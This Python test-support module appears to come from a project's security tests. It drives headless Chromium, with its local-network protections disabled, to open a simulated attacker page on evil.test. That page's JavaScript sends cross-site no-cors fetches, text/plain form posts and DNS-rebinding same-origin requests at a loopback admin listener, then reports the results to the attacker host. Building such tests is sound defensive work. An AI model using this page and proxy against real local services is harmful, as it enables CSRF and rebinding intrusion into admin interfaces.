"""A real browser on the tier's host, opening an attacker's page (issue 42 item 2).

Debian's Chromium runs headless. Its proxy is `RebindingName`, which stands in for DNS
rebinding without touching the host's resolver: every request for `evil.test` goes there;
`/attack/*` is the attacker's own server (the page, and where it reports what it could
read), anything else reaches 127.0.0.1 at the port the URL names, as if the name now
resolved there. So the page at http://evil.test:ADMIN_PORT/attack/page is, to Chromium,
same-origin with the admin listener it then asks, and its cross-site requests to
http://127.0.0.1:ADMIN_PORT go there directly (Chromium never proxies loopback).

Chromium's own Local Network Access checks are turned off: they ask the user in a prompt
that some browsers do not have, and the listener must hold without them."""

from __future__ import annotations

import asyncio
import contextlib
import json
import subprocess
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit

from support.components import chromium

NAME = "evil.test"
REPORT_TIMEOUT_S = 90.0  # Chromium's start on a busy two-core machine, and the page's run
PAGE = """<!doctype html><meta charset="utf-8"><title>cute cats</title><body><script>
const attacks = ATTACKS;
function formPost(a) {  // a text/plain form: `name=value`, the JSON split at its "="
  return new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.name = a.name;
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, {method: "POST", enctype: "text/plain", action: a.url, target: a.name});
    const input = document.createElement("input");
    const cut = a.body.indexOf("=");
    input.type = "hidden";
    [input.name, input.value] = [a.body.slice(0, cut), a.body.slice(cut + 1)];
    form.append(input);
    document.body.append(form);
    frame.addEventListener("load", () => resolve({status: "loaded"}), {once: true});
    setTimeout(() => resolve({status: "no answer"}), 15000);
    form.submit();
  });
}
async function attempt(a) {
  if (a.how === "form") return formPost(a);
  const init = {method: a.method};
  const type = a.how === "no-cors" ? "text/plain" : "application/json";
  if (a.how === "no-cors") init.mode = "no-cors";
  if (a.body !== null) init.headers = {"Content-Type": type};
  if (a.body !== null) init.body = a.body;
  const r = await fetch(a.url, init);
  return {status: r.status, text: r.type === "opaque" ? null : await r.text()};
}
(async () => {
  const results = {};
  for (const a of attacks) {
    try { results[a.name] = await attempt(a); }
    catch (e) { results[a.name] = {error: String(e)}; }
  }
  await fetch("/attack/report", {method: "POST", body: JSON.stringify(results)});
})();
</script>"""


@dataclass(frozen=True)
class PageAttack:
    """One request the page makes: `how` is `no-cors` (a cross-site fetch with a
    text/plain body), `form` (a cross-site text/plain form) or `same-origin` (through the
    rebound name: JSON on writes, and the page reads the answer)."""

    name: str
    how: str
    method: str
    path: str
    body: str | None = None


def page_html(admin_port: int, attacks: list[PageAttack]) -> bytes:
    """The attacker's page: cross-site requests go to 127.0.0.1, same-origin ones to the
    path on the page's own (rebound) origin."""
    listed = [
        {
            "name": a.name,
            "how": a.how,
            "method": a.method,
            "url": a.path if a.how == "same-origin" else f"http://127.0.0.1:{admin_port}{a.path}",
            "body": a.body,
        }
        for a in attacks
    ]
    return PAGE.replace("ATTACKS", json.dumps(listed)).encode()


class RebindingName:
    """Chromium's proxy: the attacker's server for `/attack/*` on evil.test, 127.0.0.1
    for every other path (see the module's docstring); nothing for any other name."""

    def __init__(self, page: bytes) -> None:
        self.page = page
        self.report: asyncio.Future[dict] = asyncio.get_running_loop().create_future()

    async def handle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            head = await reader.readuntil(b"\r\n\r\n")
            line, _, fields = head.decode("latin-1").partition("\r\n")
            method, target, _ = line.split(" ", 2)
            headers = [f for f in fields.split("\r\n") if f]
            lengths = [
                f.split(":", 1)[1] for f in headers if f.lower().startswith("content-length:")
            ]
            length = int(lengths[0]) if lengths else 0
            body = await reader.readexactly(length)
            url = urlsplit(target)
            if url.hostname != NAME:
                writer.write(b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\n\r\n")
            elif url.path == "/attack/page":
                writer.write(answer(200, "text/html", self.page))
            elif url.path == "/attack/report":
                if not self.report.done():
                    self.report.set_result(json.loads(body))
                writer.write(answer(204, "text/plain", b""))
            else:
                path = url.path + (f"?{url.query}" if url.query else "")
                writer.write(await relay(url.port or 80, method, path, headers, body))
            await writer.drain()
        except (asyncio.IncompleteReadError, ConnectionError, ValueError):
            pass
        finally:
            writer.close()


def answer(status: int, content_type: str, body: bytes) -> bytes:
    return (
        f"HTTP/1.1 {status} X\r\nContent-Type: {content_type}\r\n"
        f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    ).encode() + body


async def relay(port: int, method: str, path: str, headers: list[str], body: bytes) -> bytes:
    """The request as the browser sent it (its Host, Origin and body), to 127.0.0.1."""
    hop = ("connection", "proxy-connection")
    kept = [f for f in headers if f.split(":", 1)[0].strip().lower() not in hop]
    head = "\r\n".join([f"{method} {path} HTTP/1.1", *kept, "Connection: close", "", ""])
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        writer.write(head.encode("latin-1") + body)
        await writer.drain()
        return await reader.read()
    finally:
        writer.close()


async def open_in_chromium(tmp_path: Path, admin_port: int, attacks: list[PageAttack]) -> dict:
    """Open the attacker's page in headless Chromium; what it reported, by attack name."""
    binary = chromium()
    name = RebindingName(page_html(admin_port, attacks))
    server = await asyncio.start_server(name.handle, "127.0.0.1", 0)
    proxy_port = server.sockets[0].getsockname()[1]
    log = (tmp_path / "chromium.log").open("wb")
    browser = subprocess.Popen(
        [
            binary, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run",
            "--disable-extensions", "--disable-background-networking", "--disable-sync",
            f"--user-data-dir={tmp_path / 'chromium-profile'}",
            f"--proxy-server=http://127.0.0.1:{proxy_port}",
            f"--explicitly-allowed-ports={admin_port},{proxy_port}",
            "--disable-features=LocalNetworkAccessChecks,PrivateNetworkAccessSendPreflights,"
            "PrivateNetworkAccessRespectPreflightResults,BlockInsecurePrivateNetworkRequests",
            f"http://{NAME}:{admin_port}/attack/page",
        ],
        stdout=log, stderr=subprocess.STDOUT,
    )  # fmt: skip
    try:
        return await asyncio.wait_for(asyncio.shield(name.report), REPORT_TIMEOUT_S)
    except TimeoutError:
        tail = (tmp_path / "chromium.log").read_text(errors="replace")[-2000:]
        raise AssertionError(f"the page reported nothing; Chromium's log:\n{tail}") from None
    finally:
        browser.terminate()
        with contextlib.suppress(subprocess.TimeoutExpired):
            await asyncio.to_thread(browser.wait, 20)
        if browser.poll() is None:
            browser.kill()
            await asyncio.to_thread(browser.wait, 10)
        log.close()
        server.close()
        await server.wait_closed()
